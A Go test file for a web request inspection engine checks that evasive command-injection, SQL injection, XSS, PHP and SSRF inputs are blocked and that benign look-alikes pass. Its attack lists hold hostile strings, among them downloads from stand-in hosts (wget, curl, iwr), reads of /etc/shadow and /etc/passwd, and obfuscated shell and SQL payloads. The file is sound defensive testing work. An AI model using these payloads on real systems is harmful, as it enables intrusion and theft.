package inspect

import (
	"encoding/base64"
	"net/http"
	"testing"
)

// TestEvasionForms checks the shapes of shell and SQL injection that
// need no well-known keyword pair: globs and empty expansions inside
// command words, brace lists, aliases, batch IF, options after a
// subcommand; comparisons of a literal with itself, comments closing a
// quoted operand, JSON operators, T-SQL variables and casts; UTF-7 and
// comment-split script, JSFuck, VML and XInclude; PHP [php] blocks, array
// and brace variable calls, php.ini namespaces; private host names for
// SSRF. Each attack
// has near misses beside it that must pass.
func TestEvasionForms(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		class   Class
		attacks []string
		benign  []string
	}{
		{CmdI,
			[]string{"head /[?]ar/lo[?]/syslog", "/usr/[b-c]in/sh", "/us[r]/bin/id", "/tmp/[x//]y", "who$()ami", "una``me -a", "ls<()", "{,uname,-a}", "{whoami,}",
				"$x1$x2$x3", "() { :;}; echo x", "alias ll=rm", "q;alias -p x=id", ";\n.system id", "find / -perm -4000", "more /var/log/auth.log",
				"x;w$!ho$!ami", "ansible localhost -m shell", "wget evil.example", "chef-client -z", "IF \"%a%\"==\"1\" del x.txt", "if x==y goto end",
				"time; knife node list", "env --help", "kubectl --namespace=x", "apt-get install nmap", "cscli decisions list", "time; visudo\n",
				"$SHELL -c id", "/bin/l? /ho*/", "|$x curl evil.example", ";iwr http://x.example/a.ps1"},
			[]string{"see /wiki/[draft] notes", "$uper$ecret$", "python requests.get example", "perl 5.36 release", "if a==b: print(x)",
				"if (a==b) return x", "alias of the author", "find a good book", "more or less / give or take", "node v20.1 changelog",
				"price $5 $10", "the cat sat on the mat", "more --verbose than needed", "the free -- as in beer", "state-of-the-art design",
				"see /search?q=1 /docs/", "e-mail me"}},
		{SQLi,
			[]string{"x'^name--", "n' div id#", "k'or name notnull--", "' isnull --", "a' or--", "user'collate binary--", "7=7", "c,9=9", "5<=>5",
				"'x'='x", "q' and name glob name;", "OR '{\"k\":1}' ->> '$.k' = 1", "'[3]' ? '3'", "\";select x", "' union(select", "\"drop t",
				"declare @cmd varchar", "exec(@q)", "execute immediate 'x'", "case when 1 then 2", ") when 1 then", "values ('a', 'b')",
				"alter table t add c int", "delete from t;--", "truncate t;--", "drop/*x*/t", "sel/**/ect", "name::text", "lo_import('/etc/x')",
				"n'collate`binary`#", "a' or(length (x)", "select(version(", "select*/ 1,2,3--", "select if(1,2,3)", "select 0x41424344",
				") rlike (", "2.e(concat)"},
			[]string{"I'm not sure --", "it's 5 - 2 --", "\"Union Station\" tickets", "'Select all' button", "Delete from cart", "page 2 = page 2",
				"1 + 1 = 2", "v1.0=1.0", "a=1&b=1", "x==x", "in case when you arrive then call me", "std::string", "values (such as honesty)",
				"11!=1", "I (really) like (this)", "please select 1, 2 or 3 items", "select 1, 2, 3 or more", "version 1.e.g"}},
		{XSS,
			[]string{"+ADw-img src=x+AD4-", "document/**/.cookie", "top /*x*/ [\"eval\"](1)", "!![]+[]", "(![]+[])[1]", "a:url(vbscript",
				"<v:vmlframe src=\"x.example/a\"/>", "<xi:include href=\"file:///etc/passwd\"/>"},
			[]string{"the url(javascript) docs", "a + b = c", "[] is an empty list", "one /* two */ three", "vml frames are old"}},
		{PHP,
			[]string{"[php]phpinfo();[/php]", "x<?", "exec(uname)", "$f[$g[0]](1)", "$o0{1}(2)", "$x /*y*/ ()", "session.use_trans_sid=1",
				"pcre.backtrack_limit=1"},
			[]string{"the system(s) are down", "[php] tag docs", "what? ", "session=abc", "exec(summary)"}},
		{SSRF,
			[]string{"metadata.internal/x", "ip6-localhost/", "redis.default.svc.cluster.local/", "a.lvh.me/", "kubernetes.default/",
				"http://4294967297/", "http://0x1234567800000001/"},
			[]string{"lvh.me is a domain", "example.com/internal", "internal/docs", "http://example.com/7147006462"}},
	}
	for _, tt := range tests {
		for _, a := range tt.attacks {
			if v := inspectValue(t, e, a); v.Action != Block || !hasClass(v, tt.class) {
				t.Errorf("%s: %q: got %v %+v, want block", tt.class, a, v.Action, v.Findings)
			}
		}
		for _, b := range tt.benign {
			if v := inspectValue(t, e, b); v.Action == Block {
				t.Errorf("%s: %q: blocked %+v, want allowed", tt.class, b, v.Findings)
			}
		}
	}
}

// TestHiddenPlaces checks inputs found where they are not usually looked
// for: the fragment of a Referer (browsers never send one) and a cookie
// that is base64 text of a serialized function.
func TestHiddenPlaces(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		header http.Header
		block  bool
	}{
		{"referer fragment", http.Header{"Referer": {"https://shop.example/p?id=1#a=b;cat+/etc/shadow"}}, true},
		{"referer fragment benign", http.Header{"Referer": {"https://shop.example/docs/intro#getting-started"}}, false},
		{"base64 cookie", http.Header{"Cookie": {"profile=" + base64.StdEncoding.EncodeToString([]byte(`{"x":"_$$ND_FUNC$$_function(){}"}`))}}, true},
		{"base64 cookie benign", http.Header{"Cookie": {"prefs=" + base64.StdEncoding.EncodeToString([]byte(`{"theme":"dark","lang":"en"}`))}}, false},
	}
	for _, tt := range tests {
		v := e.Inspect(&Request{Method: "GET", URI: "/", Header: tt.header})
		if (v.Action == Block) != tt.block {
			t.Errorf("%s: got %v %+v, want block=%v", tt.name, v.Action, v.Findings, tt.block)
		}
	}
}
